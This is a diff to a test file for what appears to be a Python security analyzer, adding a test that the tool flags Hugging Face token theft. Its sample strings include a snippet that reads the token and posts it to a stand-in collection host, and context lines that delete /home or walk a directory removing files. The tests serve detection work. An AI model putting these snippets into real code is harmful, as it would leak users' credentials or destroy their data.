@@ -227,3 +227,13 @@ def test_rmtree_of_home_and_deletes_in_a_recursive_walk_still_are() -> None:
     assert by_rule(analyze_text("import shutil\nshutil.rmtree('/home/user')\n"), "MH508")
     walk = "import os\nfor root, _, files in os.walk('/data'):\n    for f in files:\n        os.remove(os.path.join(root, f))\n"
     assert by_rule(analyze_text(walk), "MH508")
+
+
+def test_hugging_face_token_through_the_library() -> None:
+    stolen = "from huggingface_hub import HfFolder\nimport requests\nt = HfFolder.get_token()\nrequests.post('https://collect.example.com', data=t)\n"
+    (note,) = by_rule(analyze_text(stolen), "MH515")
+    assert note.severity is Severity.LOW and "Hugging Face token" in note.message
+    (sent,) = by_rule(analyze_text(stolen), "MH503")
+    assert sent.category is Category.CREDENTIAL_THEFT and [s.location.line for s in sent.trace] == [3, 3, 4]
+    own = "import huggingface_hub, requests\nt = huggingface_hub.get_token()\nrequests.get('https://huggingface.co/api/whoami-v2', headers={'authorization': t})\n"
+    assert not by_rule(analyze_text(own), "MH503")
